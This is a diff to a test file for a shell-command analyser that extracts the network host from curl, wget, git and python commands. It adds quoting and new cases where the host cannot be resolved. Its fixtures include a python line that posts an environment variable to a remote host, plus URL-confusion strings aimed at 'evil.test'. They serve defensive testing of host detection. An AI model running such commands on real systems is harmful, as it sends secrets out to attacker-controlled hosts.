@@ -105,12 +105,12 @@ describe("an address", () => {
     (bash(command).effects?.network ?? []).map(({ surely: sure }) => sure?.url.host);
 
   it.each([
-    ["curl https://ok.test/$x", "ok.test"],
+    ['curl "https://ok.test/$x"', "ok.test"],
     ['curl "https://ok.test/v1/$x?y=$z"', "ok.test"],
     ['curl -d a "https://OK.test:8443/$x"', "ok.test"],
     ['curl --url="https://ok.test/$x"', "ok.test"],
     ['wget "https://user@ok.test/$x"', "ok.test"],
-    ["curl http://127.0.0.1:3000/$x", "127.0.0.1"],
+    ['curl "http://127.0.0.1:3000/$x"', "127.0.0.1"],
     ['python3 -c \'import os, requests; requests.post("https://ok.test/" + os.environ["X"])\'', "ok.test"],
     ["git remote add up https://ok.test/a.git", "ok.test"],
     ["git remote add up git@ok.test:a/b.git", "ok.test"],
@@ -120,15 +120,18 @@ describe("an address", () => {
   });
 
   it.each([
-    "curl https://ok.test$x",
-    "curl https://ok.test:$p/a",
-    "curl https://$x/ok.test/",
-    "curl https://$x@ok.test/a",
-    "curl https://$x.ok.test/a",
-    "curl https://ok.test?$x",
+    'curl "https://ok.test$x"',
+    "curl https://ok.test/$x",
+    'curl "https://ok.test/$@"',
+    "curl https://ok.test/$(cat list)",
+    'curl "https://ok.test:$p/a"',
+    'curl "https://$x/ok.test/"',
+    'curl "https://$x@ok.test/a"',
+    'curl "https://$x.ok.test/a"',
+    'curl "https://ok.test?$x"',
     "curl 'https://ok.test\\@evil.test/'$x",
     "curl 'https://ok.test%2f@evil.test/'$x",
-    "curl $scheme://ok.test/a",
+    'curl "$scheme://ok.test/a"',
     'curl "$x"',
     "git remote add up https://$x/ok.test/a.git",
     "frobnicate https://ok.test/a",
